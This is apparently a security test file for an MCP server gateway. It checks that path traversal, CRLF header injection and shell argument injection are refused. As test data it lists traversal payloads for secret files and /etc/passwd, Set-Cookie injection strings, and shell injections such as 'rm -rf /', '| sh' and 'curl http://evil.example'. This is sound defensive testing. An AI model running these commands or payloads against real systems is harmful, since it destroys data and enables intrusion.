import { existsSync } from 'node:fs'
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { ServerInput } from '../../../shared/server.ts'
import { connectLegacy } from '../testing/clients.ts'
import { echoServer } from '../testing/echo-definition.ts'
import { rawRequest, sendRaw } from '../testing/raw-http.ts'
import { configFileOf, startTempCore, type TempCore } from '../testing/temp-core.ts'

/* Names and texts that are meant to be more than that: paths, headers, commands. */

let core: TempCore
let folder: string

const SECRET = 'beside-the-page-3ac1'

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'metamcp-names-'))
  await mkdir(join(folder, 'page/assets'), { recursive: true })
  await writeFile(join(folder, 'page/index.html'), '<!doctype html><title>page</title>')
  await writeFile(join(folder, 'secret.txt'), SECRET)
  const marker = join(folder, 'made-by-a-shell')
  const args = [
    `; touch ${marker}`,
    `$(touch ${marker})`,
    `\`touch ${marker}\``,
    `| touch ${marker}`,
  ]
  const echo = echoServer()
  core = await startTempCore({
    // Of which there are backups in the data folder.
    database: 'embedded',
    pageDir: join(folder, 'page'),
    file: configFileOf([{ ...echo, args: [...(echo.args ?? []), ...args, `&& touch ${marker}`] }]),
  })
})
afterAll(async () => {
  await core[Symbol.asyncDispose]()
  await rm(folder, { recursive: true, force: true })
})

const UPWARDS = [
  '/../secret.txt',
  '/..%2fsecret.txt',
  '/%2e%2e/secret.txt',
  '/%2e%2e%2fsecret.txt',
  '/..%5csecret.txt',
  '/assets/../../secret.txt',
  '/assets/%2e%2e/%2e%2e/secret.txt',
  '/assets/..%252f..%252fsecret.txt',
  '/assets//../..//secret.txt',
  '/./../secret.txt',
  '/secret.txt%00.html',
  '//secret.txt',
  '/metamcp/..%2f..%2fsecret.txt/mcp',
  '/metamcp/%2e%2e/mcp',
  '/trpc/frontend/../../secret.txt',
]

test.each(UPWARDS)('path traversal: %s leads to nothing beside the page', async (path) => {
  const headers = { Authorization: `Bearer ${core.adminToken.token}` }
  const { status, body } = await sendRaw(core, rawRequest(core, `GET ${path}`, { headers }))
  expect(body).not.toContain(SECRET)
  expect(status).toBeLessThan(500)
})

test('path traversal: a backup to restore is one of ours by its name alone', async () => {
  for (const name of ['../../secret.txt', '..', '/etc/passwd', '..\\secret.txt', 'a\0b', '']) {
    const restoring = core.admin.data.restore.mutate({ name })
    await expect(restoring).rejects.toThrow('There is no backup')
  }
  expect((await core.admin.data.info.query()).pendingRestore).toBeNull()
})

test.each(['../evil', '..', 'a/b', 'a\\b', 'a\0b', 'a\r\nb', 'a%2fb', '', ' ', '__proto__', 'a b'])(
  'no server, namespace or endpoint is called %j',
  async (name) => {
    const { servers, namespaces, endpoints } = core.admin
    const [namespace] = await namespaces.list.query()
    const namespaceId = namespace?.id ?? ''
    const all = await Promise.allSettled([
      servers.create.mutate({ name, type: 'STDIO', command: 'x' }),
      // Underscores are letters like others there.
      ...(name === '__proto__'
        ? []
        : [namespaces.create.mutate({ name }), endpoints.create.mutate({ name, namespaceId })]),
    ])
    expect(all.map(({ status }) => status)).not.toContain('fulfilled')
  },
)

const BREAKS = [
  '%0d%0aSet-Cookie:%20evil=1',
  '%0aSet-Cookie:%20evil=1',
  '%E5%98%8D%E5%98%8ASet-Cookie:evil=1',
]

test.each(BREAKS)('header injection: %s in an address is in no header', async (evil) => {
  const paths = [
    `/${evil}`,
    `/metamcp/default${evil}/mcp`,
    `/metamcp/${evil}/sse`,
    `/metamcp/default/message?sessionId=${evil}`,
    `/oauth/callback?code=x&state=${evil}&iss=${evil}`,
    `/.well-known/oauth-protected-resource/metamcp/${evil}/mcp`,
    `/trpc/frontend/${evil}`,
  ]
  for (const path of paths) {
    const { head } = await sendRaw(core, rawRequest(core, `GET ${path}`))
    expect(head).toMatch(/^HTTP\/1\.1 \d/)
    expect(head.split('\r\n').filter((line) => /^set-cookie/i.test(line))).toEqual([])
  }
})

test('header injection: a header or an address with a line break is refused for a server', async () => {
  const remote = { name: 'injected', type: 'STREAMABLE_HTTP' as const, url: 'http://127.0.0.1:9/' }
  const evil = 'x\r\nX-Evil: 1'
  const made: ServerInput[] = [
    { ...remote, headers: { 'x-a': evil } },
    { ...remote, headers: { [evil]: 'x' } },
    { ...remote, bearerToken: evil },
    { ...remote, url: 'file:///etc/passwd' },
    { ...remote, url: 'javascript:alert(1)' },
  ]
  for (const input of made) {
    await expect(core.admin.servers.create.mutate(input)).rejects.toThrow()
  }
})

test('argument injection: what a shell would run is an argument like any other', async () => {
  await using client = await connectLegacy(core.mcpUrl(), core.key)
  const { tools } = await client.listTools()
  expect(tools.some(({ name }) => name === 'echo__echo')).toBe(true)
  expect(existsSync(join(folder, 'made-by-a-shell'))).toBe(false)
})

test.each([
  'npx -y memo; rm -rf /',
  'npx -y memo && curl http://evil.example',
  'npx -y memo | sh',
  'npx -y $(curl http://evil.example)',
  'npx -y `curl http://evil.example`',
  'npx -y memo > /etc/passwd',
  'npx -y memo & sh',
])('argument injection: %s is not taken over as a command', async (text) => {
  const before = await core.admin.servers.list.query()
  const read = await core.admin.adding.read.mutate({ text })
  // Either it is refused, or each sign is an argument, which no shell reads.
  const commands = JSON.stringify(read)
  expect(commands).not.toMatch(/"command":"(?:sh|rm|curl|\/bin\/)/)
  expect(await core.admin.servers.list.query()).toEqual(before)
})
